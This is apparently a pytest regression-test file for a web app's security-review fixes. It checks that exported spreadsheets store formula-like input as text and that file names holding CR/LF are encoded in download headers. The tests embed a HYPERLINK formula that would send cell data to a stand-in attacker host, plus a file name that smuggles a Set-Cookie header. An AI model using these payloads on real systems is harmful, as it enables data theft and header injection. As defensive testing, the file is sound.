"""The web-side findings of the security and fault review (issue 14): one regression test
per item (3 formulas in the tracking sheet, 6 sessions, 7 the sign-in limit, 8 field limits,
9 typed JSON bodies, 10 headers and links, 13 download names)."""
from __future__ import annotations

import io
import shutil
from urllib.parse import unquote

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from luoshi import store
from luoshi.serve import create_app
from paths import SAMPLE
from web_support import make_db, password, sign_in


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    database = make_db(tmp_path_factory.mktemp("security") / "security.db", files=[SAMPLE])
    yield database
    database.close()


@pytest.fixture(scope="module")
def app(db):
    return create_app(db)


@pytest.fixture
def client(app):
    clients = []

    def make(role: str | None = "viewer") -> TestClient:
        c = TestClient(app, follow_redirects=False)
        clients.append(c)
        return sign_in(c, role)

    yield make
    for c in clients:
        c.close()


def _json(c: TestClient) -> dict:
    return {"X-CSRF-Token": c.csrf, "Accept": "application/json"}


# --- 3. The tracking sheet never holds a live formula ------------------------------------------

def test_tracking_sheet_titles_and_units_starting_with_equals_stay_text(client):
    e = client("editor")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    r = e.post("/tracking/items", headers=_json(e), json={
        "title": formula, "lead_unit": "=1+1", "supporting_units": ["@SUM(A1)"], "year": 2024})
    assert r.status_code == 200, r.text
    x = e.get("/tracking/report.xlsx", params={"year": 2024})
    ws = load_workbook(io.BytesIO(x.content)).active
    row = next(row for row in ws.iter_rows(min_row=3) if row[1].value == formula)
    assert [c.data_type for c in row[1:4]] == ["s", "s", "s"]  # text cells, not formulas ("f")
    assert row[2].value == "=1+1" and row[3].value == "@SUM(A1)"
    assert ws["A2"].value == "序号" and ws["A1"].font.bold and ws.freeze_panes == "A3"


# --- 13. A report's name cannot break a download's header ---------------------------------------

def test_a_report_name_with_cr_lf_is_encoded_in_content_disposition(tmp_path):
    # a file name may hold any byte but "/" and NUL: a report saved as "宁波\r\nSet-Cookie: x=1.txt"
    odd = tmp_path / "宁波\r\nSet-Cookie: x=1.txt"
    shutil.copyfile(SAMPLE, odd)
    database = make_db(tmp_path / "names.db", files=[odd])
    try:
        with TestClient(create_app(database)) as c:
            sign_in(c, "viewer")
            doc = store.list_documents(database)[0]
            r = c.get("/api/corrections/export.jsonl", params={"document": str(doc["id"])})
            assert r.status_code == 200, r.text
            header = r.headers["content-disposition"]
            assert "\r" not in header and "\n" not in header and "x" not in r.cookies
            assert header.startswith('attachment; filename="') and "filename*=UTF-8''" in header
            name = unquote(header.split("filename*=UTF-8''")[1])
            assert name == "宁波__Set-Cookie: x=1.gold.jsonl"
    finally:
        database.close()
